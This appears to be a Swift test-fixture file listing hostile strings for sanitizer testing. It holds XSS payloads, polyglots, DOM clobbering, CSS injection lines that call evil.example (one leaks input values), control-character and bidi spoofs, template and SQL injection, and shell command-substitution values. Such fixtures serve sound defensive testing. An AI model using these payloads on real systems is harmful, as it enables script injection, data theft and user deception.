extension HostileText {
    static let structure: [String] = [
        "<table><tr><td><img src=x onerror=alert(1)>", "<tr><td onclick=alert(1)>x", "<td>x</td>",
        "<caption onclick=alert(1)>x", "<col onclick=alert(1)>", "<tbody><script>alert(1)</script>",
        "<thead><tfoot><th>x", "<html onclick=alert(1)>x", "<head><script>alert(1)</script></head>",
        "</head><body onload=alert(1)>", "</body></html><img src=x onerror=alert(1)>",
        "<frame src=javascript:alert(1)>",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<select><option><img src=x onerror=alert(1)>",
        "<select><script>alert(1)</script></select>", "<option><optgroup onclick=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template shadowrootmode=open><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>",
        "<form><form><input name=x>", "<input type=hidden name=token>",
        "<input name=password placeholder='Your password'>",
        "<a><a><a>x", "<b><i></b></i>x", "<p><div></p></div>x", "<center><h1>You have won</h1></center>",
        "<h1>x<h2>y</h1>", "<ul><li>x<li>y</ul>", "<br>x<br/>y<br />z", "<hr>x<wbr>y", "a<b>b</b>c<i>d</i>e",
        "<blink>x</blink>", "<marquee>x</marquee>", "<nobr>x<nobr>y", "<applet code=x archive=y></applet>",
        "<param name=x value=y>", "<object><param name=src value=javascript:alert(1)></object>",
        "<x-foo is=script>x</x-foo>", "<portal src=//evil.example>", "<fencedframe>x</fencedframe>",
        "<math><svg><table><tr><td><img src=x onerror=alert(1)>", "<div><div><div><div>x",
        "</div></div></div><img src=x onerror=alert(1)>", "</span>x</span>",
        "</td></tr></table><script>alert(1)</script>",
    ]

    static let styles: [String] = [
        "<style>@import '//evil.example/x.css';</style>x", "<style>body{background:url(javascript:alert(1))}</style>",
        "<style>*{-moz-binding:url(x)}</style>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='position:fixed;inset:0;background:#fff'>Sign in</div>", "<div style=behavior:url(x.htc)>x</div>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=stylesheet href=data:,*{background:red}>",
        "<p style=\"x:\\65xpression(alert(1))\">y</p>", "<xss style='xss:expr/**/ession(alert(1))'>x",
        "<style type=text/javascript>alert(1)</style>",
        "<svg><style>@keyframes x{}</style><g style=animation-name:x onanimationend=alert(1)>",
    ]

    static let clobbering: [String] = [
        "<img name=cookie>", "<form id=document><input name=body></form>",
        "<a id=config><a id=config name=url href=javascript:alert(1)>", "<img id=getElementById>",
        "<form name=location><input name=href value=x>", "<input id=attributes>",
        "<form><input name=attributes><input name=parentNode></form>", "<iframe name=top srcdoc=x>",
        "<embed name=implementation>", "<object id=defaultView>", "<html id=x><body id=y>", "<a id=ran>",
        "<div id=inbox>x</div>", "<template id=item><img src=x onerror=alert(1)></template>",
    ]

    static let polyglots: [String] = [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "\">><marquee><img src=x onerror=alert(1)></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=alert(1)><script>alert(1)</script>@gmail.com<isindex formaction=javascript:alert(1) type=submit>'-->\"></script><script>alert(1)</script>",
        "javascript://'/</title></style></textarea></script>--><p\" onclick=alert()//>*/alert()/*",
        "javascript://--></title></style></textarea></script><svg \"//' onclick=alert()//",
        "/</title/'/</style/</script/--><p\" onclick=alert()//>*/alert()/*",
        "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert()//>",
        "';alert(String.fromCharCode(88))//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
        "'\"()&%<zzz><ScRiPt >alert(1)</ScRiPt>", "'';!--\"<XSS>=&{()}",
        "\"'><img src=x onerror=alert(1)>{{7*7}}${7*7}<%=7*7%>",
        "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
        "\"/><svg/onload=alert(1)><!--'/><svg/onload=alert(1)>-->",
        "</noscript></title></textarea></style></script></xmp></iframe></noembed></noframes><img src=x onerror=alert(1)>",
        "*/</script><!--><svg onload=alert(1)><!-- /*", "<!--\" ' ]]> --><img src=x onerror=alert(1)><![CDATA[",
        "\u{1}<\u{1}i\u{1}m\u{1}g\u{1} src=x onerror=alert(1)>",
    ]

    static let controls: [String] = [
        "<\u{0}script>alert(1)</script>", "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<\u{1}script>alert(1)<\u{1}/script>",
        "<img\u{0}src=x onerror=alert(1)>", "<img\u{B}src=x onerror=alert(1)>", "<img\u{C}src=x\u{C}onerror=alert(1)>",
        "<img src=x onerror\u{B}=alert(1)>", "<svg\u{C}onload=alert(1)>", "<\u{7F}b>x", "<\u{80}b>x",
        "<\u{9F}img src=x onerror=alert(1)>", "\u{0}", "\u{0}<b>x</b>\u{0}", "<b\u{0}>x</b\u{0}>",
        "<!-\u{0}- x --\u{0}>y", "<!\u{0}DOCTYPE x>y", "</\u{0}script>x", "<\u{8}img src=x onerror=alert(1)>",
        "\u{1B}[2J\u{1B}[31mred", "\u{7}bell", "a\u{0}b\u{1F}c\u{7F}d\u{9B}e",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>", "<a href=java\u{0}script:alert(1)>x</a>",
        "\r\n\r\n<script>alert(1)</script>", "<\r\nscript>alert(1)", "<script\r>alert(1)</script\r>",
        "<img src=x\ronerror=alert(1)>", "<img src=\"x\r\n\" onerror=alert(1)>",
    ]

    static let direction: [String] = [
        "\u{202E}cod.exe", "user\u{202E}gpj.exe", "\u{202A}x\u{202B}y\u{202C}z\u{202D}w\u{202E}",
        "\u{2066}x\u{2067}y\u{2068}z\u{2069}", "<\u{202E}b>x</b>", "<\u{2066}script>alert(1)</script\u{2069}>",
        "<\u{200F}b>x", "\u{200E}\u{200F}\u{61C}", "pay \u{202E}000,1\u{202C} now", "<b>\u{202E}</b>",
        "\u{2069}\u{2069}\u{2069}", "<img\u{202C}src=x onerror=alert(1)>",
    ]

    /// Of no concern to HTML; here to be stored as they are.
    static let templates: [String] = [
        "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}",
        "#{7*7}", "<%= 7*7 %>", "{%raw%}{{x}}", "[[${7*7}]]", "{{{x}}}",
        "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
        "<div v-html=\"'<img src=x onerror=alert(1)>'\">", "<div x-data x-init=alert(1)>",
        "<div data-bind=\"html:alert(1)\">", "<p hx-on:load=alert(1)>x",
        "@{7*7}", "%s%n%x", "$(alert 1)", "`alert 1`", "'; DROP TABLE inbox; --", "{\"__proto__\":{\"x\":1}}",
        "</template><script>alert(1)</script>",
    ]
}
